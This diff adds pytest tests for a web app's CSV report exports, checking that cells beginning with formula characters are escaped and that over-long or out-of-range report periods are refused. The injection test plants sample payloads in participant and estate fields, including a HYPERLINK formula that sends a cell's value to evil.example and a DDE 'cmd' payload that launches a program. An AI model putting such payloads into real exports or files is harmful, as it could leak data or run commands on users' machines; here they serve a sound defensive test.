@@ -2,6 +2,7 @@
 import csv
 import io
 import re
+from datetime import datetime, timezone
 
 import pytest
 from sqlalchemy import select
@@ -103,3 +104,66 @@ def test_the_participant_list_leaves_out_contact_details_after_consent_is_withdr
     text = client.post("/reports/participants.csv", data={"csrf_token": client.csrf}).get_data(as_text=True)
     assert "Dee" in text and "07700900123" not in text and "dee@example.org" not in text
     assert "(no consent to contact)" in text
+
+
+# What a spreadsheet runs as a formula when a cell starts with it (OWASP, CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+CSV_EXPORTS = {"reports.funnel_csv": "GET", "reports.outcomes_csv": "GET", "reports.participants_csv": "POST"}
+
+
+def test_every_csv_export_is_known_to_the_formula_test(app):
+    exports = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
+    assert exports == set(CSV_EXPORTS), "a new CSV export must be added to the formula-injection test below"
+
+
+def test_no_csv_export_hands_a_spreadsheet_a_formula(app, db, client, world, login_as):
+    from tests.test_participants import signed_up
+    payloads = {"estate": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "first": "+SUM(1+1)",
+                "last": "@cmd|' /C calc'!A0", "address": "\t=1+2", "postcode": "\r-3+4", "phone": "+447700900123"}
+    world["estate"].name = payloads["estate"]
+    world["door"].address_line1, world["door"].postcode = payloads["address"], payloads["postcode"]
+    db.session.commit()
+    login_as("worker")
+    today = datetime.now(timezone.utc)
+    pid = signed_up(client, world, first_name=payloads["first"], last_name=payloads["last"],
+                    phone=payloads["phone"], recorded_at=today.strftime("%Y-%m-%dT%H:%M:%SZ"))
+    assert client.post(f"/participants/{pid}/stage", data={
+        "csrf_token": client.csrf, "stage": "job_started", "occurred_on": today.date().isoformat(),
+        "hours_per_week": "16", "evidence": "payslip"}).status_code == 303
+    login_as("manager")
+    for endpoint, method in CSV_EXPORTS.items():
+        url = app.url_map.bind("localhost").build(endpoint)
+        response = (client.get(url) if method == "GET" else client.post(url, data={"csrf_token": client.csrf}))
+        assert response.status_code == 200 and response.mimetype == "text/csv", endpoint
+        cells = [cell for row in rows(response) for cell in row]
+        assert "'" + payloads["estate"] in cells, f"{endpoint}: the estate's name is there, made harmless"
+        for cell in cells:
+            assert not cell.startswith(FORMULA_STARTS), (endpoint, cell)
+    personal = client.post("/reports/participants.csv", data={"csrf_token": client.csrf})
+    cells = [cell for row in rows(personal) for cell in row]
+    for key in ("first", "last", "address", "postcode", "phone"):
+        assert "'" + payloads[key] in cells, key
+
+
+TOO_LONG = "A period can be at most 10 years long"
+OUT_OF_TIME = "Give a date from 2000 to 2099"
+
+
+@pytest.mark.parametrize("query, message", [({"from": "0001-01-01"}, OUT_OF_TIME),
+                                            ({"from": "2000-01-01", "to": "2026-01-31"}, TOO_LONG),
+                                            ({"from": "2012-01-01"}, TOO_LONG),
+                                            ({"from": "2026-01-01", "to": "9999-12-31"}, OUT_OF_TIME),
+                                            ({"from": "9999-12-01", "to": "9999-12-31"}, OUT_OF_TIME)])
+def test_a_period_too_long_or_out_of_time_is_refused_with_a_clear_message(client, world, login_as, query, message):
+    login_as("manager")
+    for url in ("/reports/", "/reports/funnel.csv", "/reports/outcomes.csv", "/funnel"):
+        response = client.get(url, query_string=query)
+        assert response.status_code == 422, (url, query)
+        assert message in response.get_data(as_text=True), url
+
+
+def test_a_period_of_the_longest_allowed_span_is_reported(client, world, login_as):
+    login_as("manager")
+    response = client.get("/reports/funnel.csv", query_string={"from": "2016-12-01", "to": "2026-11-30"})
+    assert response.status_code == 200 and rows(response)[0][:2] == ["estate", "month"]
+
